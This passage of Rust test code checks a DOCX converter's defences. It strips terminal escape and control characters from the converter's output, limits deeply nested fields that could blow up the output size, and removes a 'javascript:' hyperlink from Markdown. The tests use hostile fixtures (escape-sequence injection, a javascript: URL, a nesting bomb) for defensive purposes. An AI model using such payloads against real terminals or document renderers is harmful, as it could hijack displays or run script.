        r#"<w:comment w:id="0" w:author="A&#x1b;uthor"><w:p><w:r><w:t>note&#x1b;c</w:t></w:r></w:p></w:comment>"#,
    );
    d.set_body(
        &[
            s::p_text(None, hostile),
            s::p(&(s::run("commented") + r#"<w:r><w:commentReference w:id="0"/></w:r>"#)),
            s::p(&(s::run("tab\there") + "<w:r><w:br/></w:r>" + &s::run("next line"))),
        ]
        .concat(),
    );
    let doc = convert(&d.to_bytes()).unwrap();
    assert_eq!(
        doc.paragraphs()[0].1.text,
        hostile,
        "the model keeps the text"
    );
    let options = WriteOptions {
        comments: true,
        ..WriteOptions::new()
    };
    for format in [Format::Markdown, Format::Text, Format::Csv] {
        let out = render(&doc, format, &options);
        let bad: Vec<char> = out
            .chars()
            .filter(|&c| c.is_control() && !matches!(c, '\t' | '\n'))
            .filter(|&c| !(format == Format::Csv && c == '\r')) // CSV's CRLF record ends
            .collect();
        assert!(bad.is_empty(), "{format:?} keeps {bad:?}: {out:?}");
        assert!(out.contains(clean), "{format:?}: {out:?}");
        assert!(
            out.contains("tab\there"),
            "{format:?} lost the tab: {out:?}"
        );
    }
    let md = render(&doc, Format::Markdown, &options);
    assert!(md.contains("notec") && md.contains("Author"), "{md}");
    // The JSON keeps them, escaped: C0 by serde_json, DEL and C1 by the writer.
    let json = render(&doc, Format::Json, &options);
    assert!(
        json.contains("reset\\u001bc bell\\u0007 csi\\u009b31m"),
        "{json}"
    );
    assert!(json.contains("nel\\u0085 del\\u007f"), "{json}");
    let value: serde_json::Value = serde_json::from_str(&json).unwrap();
    assert!(
        value.to_string().contains('\u{9b}'),
        "the value read back keeps the CSI"
    );
}

#[test]
fn fields_nested_deeper_than_the_limit_are_read_as_their_text() {
    // 10,000 fields, each inside the one before: 44 KB of XML that made 200 MB of output,
    // each field's result holding every field inside it.
    let n = 10_000;
    let open = s::fld_char("begin") + &s::instr_text("QUOTE x") + &s::fld_char("separate");
    let body = s::p(&(open.repeat(n) + &s::run("deep") + &s::fld_char("end").repeat(n)));
    let mut d = Docx::new();
    d.xml_compression = Compression::Stored;
    d.set_body(&body);
    let doc = convert(&d.to_bytes()).unwrap();
    assert_eq!(texts(&doc), vec!["deep"]);
    assert_eq!(doc.fields.len(), 32, "the fields within the depth limit");
    assert!(
        has_warning(&doc, WarningCode::FieldsTooDeep),
        "{:?}",
        doc.warnings
    );
    assert!(all_outputs(&doc).len() < 200_000);

    // Fields after the deep ones are read as usual: the depth is counted back down.
    let body = s::p(&(open.repeat(40) + &s::fld_char("end").repeat(40)))
        + &s::p(&s::field("PAGE", &s::run("7")));
    d.set_body(&body);
    let doc = convert(&d.to_bytes()).unwrap();
    assert_eq!(doc.fields.last().map(|f| f.kind.as_str()), Some("PAGE"));
    assert_eq!(texts(&doc).last().map(String::as_str), Some("7"));
}

#[test]
fn a_long_link_target_named_by_many_links_is_written_once_in_markdown() {
    let markdown_of = |url: &str, copies: usize| {
        let mut d = Docx::new();
        d.xml_compression = Compression::Stored;
        let rid = d.add_hyperlink(Docx::MAIN, url);
        let evil = d.add_hyperlink(Docx::MAIN, &format!("javascript:{}", "x".repeat(5000)));
        let links = s::hyperlink(&rid, &s::run("link")).repeat(copies)
            + &s::hyperlink(&evil, &s::run("script"));
        d.set_body(&(s::p(&links) + &s::p(&s::hyperlink(&rid, &s::run("again")))));
        let doc = convert(&d.to_bytes()).unwrap();
        let mut out = Vec::new();
        write(&doc, Format::Markdown, &WriteOptions::new(), &mut out).unwrap();
        String::from_utf8(out).unwrap()
    };
    // 1,000 links to one 100 KB target: the target is written once.
    let url = format!("https://example.com/{}", "x".repeat(100_000));
    let md = markdown_of(&url, 1000);
    assert!(md.len() < 2 * url.len(), "{} bytes of Markdown", md.len());
    assert_eq!(md.matches("[link][link-1]").count(), 1000);
    assert_eq!(md.matches(&format!("[link-1]: {url}")).count(), 1);
    assert!(md.contains("script") && !md.contains("javascript:"));

    // A CommonMark reader takes every such link to its target. (Readers cap how much
    // reference expansion they do, pulldown-cmark and cmark at about the input's size, so
    // this is checked where the expansions fit.)
    let url = format!("https://example.com/{}", "y".repeat(3000));
    let md = markdown_of(&url, 10);
    let mut targets = Vec::new();
    for event in pulldown_cmark::Parser::new(&md) {
        if let pulldown_cmark::Event::Start(pulldown_cmark::Tag::Link { dest_url, .. }) = event {
            targets.push(dest_url.into_string());
        }
    }
    assert_eq!(targets.len(), 11, "{md}");
    assert!(targets.iter().all(|t| *t == url));
}
